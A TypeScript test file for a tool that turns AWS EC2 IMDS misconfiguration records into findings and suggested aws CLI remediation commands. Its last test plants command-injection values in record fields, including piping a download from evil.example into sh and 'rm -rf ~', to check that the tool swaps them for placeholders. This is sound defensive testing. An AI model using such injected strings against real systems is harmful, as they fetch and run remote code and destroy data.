/**
 * What the IMDS findings say, line by line: every line agrees with what the record showed and with what the
 * remediation would do, and nothing an attacker wrote into a record reaches a command a person may paste.
 */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/types.ts';
import { baselineFrom, exampleBaseline } from '../helpers/baseline.ts';
import { createLaunchTemplate, runInstances } from '../helpers/ec2Records.ts';
import { findingsFor } from '../helpers/findings.ts';
import { modifyImds } from '../helpers/records.ts';

const ID = 'i-0abc1234def567890';

describe('IMDS findings', () => {
  it('one finding for IMDSv1 and a hop limit above the maximum, its summary, command and remediation agreeing', () => {
    const [finding, ...others] = findingsFor(
      modifyImds(ID, { HttpTokens: 'optional', HttpPutResponseHopLimit: 3 }),
      baselineFrom('version: 1\nimds:\n  maxHopLimit: 2\n  hopLimit: 2\n'),
    ) as [Finding, ...Finding[]];
    expect(others).toEqual([]);
    expect(finding.ruleId).toBe('ec2.imds.v1-allowed');
    expect(finding.summary).toBe(
      `Instance ${ID} now accepts IMDSv1: HttpTokens optional, hop limit 3, above the account maximum of 2.`,
    );
    expect(finding.nextSteps[0]).toBe(
      `Unless guardrail did it (see above), require IMDSv2: aws ec2 modify-instance-metadata-options --region eu-west-1 --instance-id ${ID} --http-tokens required --http-endpoint enabled --http-put-response-hop-limit 2`,
    );
    expect(finding.remediation?.params).toEqual({
      region: 'eu-west-1',
      instances: [
        {
          instanceId: ID,
          httpTokens: 'required',
          maxHopLimit: 2,
          seen: { httpTokens: 'optional', hopLimit: 3 },
        },
      ],
    });
  });

  it('a profile it cannot decide: named with why, judged strictly, and no step goes below the loosest', () => {
    const [finding] = findingsFor(
      modifyImds(ID, { HttpTokens: 'required', HttpPutResponseHopLimit: 3 }),
      exampleBaseline(),
    ) as [Finding];
    expect(finding.ruleId).toBe('ec2.imds.hop-limit');
    expect(finding.summary).toBe(
      `Instance ${ID} now has hop limit 3, above the strictest maximum that may apply, 1. The IMDS profile of ${ID} could not be decided (the tags of instance ${ID} are not in the record and not available here): judged against the strictest of kdcube-containers (at most 2) or the account (at most 1), and never lowered below 2, the most any of them allows.`,
    );
    expect(finding.nextSteps[0]).toMatch(/ --http-put-response-hop-limit 2$/);
    expect(finding.nextSteps.at(-1)).toMatch(/^Make its IMDS profile certain: /);
    expect(finding.remediation?.params).toMatchObject({ instances: [{ maxHopLimit: 2 }] });
  });

  it('keeps a template hop limit within the maximum in the version it tells to publish (never raised)', () => {
    const [finding] = findingsFor(
      createLaunchTemplate('web', {
        MetadataOptions: { HttpTokens: 'optional', HttpPutResponseHopLimit: 1 },
      }),
      baselineFrom('version: 1\nimds:\n  maxHopLimit: 2\n  hopLimit: 2\n'),
    ) as [Finding];
    expect(finding.nextSteps[0]).toBe(
      `A version cannot be edited: publish a compliant one, aws ec2 create-launch-template-version --region eu-west-1 --launch-template-id lt-0abcd290751193123 --source-version 1 --launch-template-data '{"MetadataOptions":{"HttpTokens":"required","HttpEndpoint":"enabled","HttpPutResponseHopLimit":1}}'`,
    );
  });

  it('puts no forged value into a command: placeholders instead', () => {
    const forgedId = "i-abcd'; curl https://evil.example/x | sh; echo '";
    const launch = runInstances(
      [{ id: forgedId, metadataOptions: { httpTokens: 'optional' } }],
      {},
      {
        awsRegion: 'eu-west-1; rm -rf ~',
      },
    );
    const template = createLaunchTemplate("web' && curl evil.example | sh #", {}, 'lt-0abcd290751193123', {
      awsRegion: 'eu-west-1',
    });
    const bare = { ...template, responseElements: null };
    const findings = [...findingsFor(launch), ...findingsFor(bare)];
    expect(findings.map((f) => f.ruleId)).toEqual(['ec2.imds.v1-allowed', 'ec2.imds.v1-allowed']);
    const commands = findings.flatMap((f) => f.nextSteps).join('\n');
    expect(commands).toContain('--instance-id <instance-id>');
    expect(commands).toContain('--region <region>');
    expect(commands).toContain('--launch-template-name <launch-template-name>');
    expect(commands).not.toMatch(/curl|rm -rf/);
    // The forged id is reported, never acted on.
    expect(findings[0]?.remediation).toBeNull();
    expect(findings[0]?.details.instances).toMatchObject([
      { instanceId: forgedId, notActedOn: expect.any(String) },
    ]);
  });
});
